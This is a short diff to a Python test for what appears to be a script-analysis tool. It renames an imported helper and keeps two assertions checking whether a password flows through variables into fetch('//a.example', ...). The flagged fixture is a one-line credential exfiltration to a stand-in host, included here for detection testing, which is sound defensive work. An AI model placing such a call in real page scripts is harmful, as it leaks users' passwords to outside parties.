@@ -2,9 +2,9 @@
 
 from __future__ import annotations
 
-from tests.client_scripts.test_browsed import TAKEN, roads
+from tests.client_scripts.test_script_analysis import TAKEN, channels
 
 
 def test_a_password_is_followed_over_names() -> None:
-    assert roads(TAKEN + 'a = p; b = "x" + a; fetch("//a.example", b);')
-    assert not roads(TAKEN + 'a = p.length > 3; b = "x"; fetch("//a.example", b);')
+    assert channels(TAKEN + 'a = p; b = "x" + a; fetch("//a.example", b);')
+    assert not channels(TAKEN + 'a = p.length > 3; b = "x"; fetch("//a.example", b);')
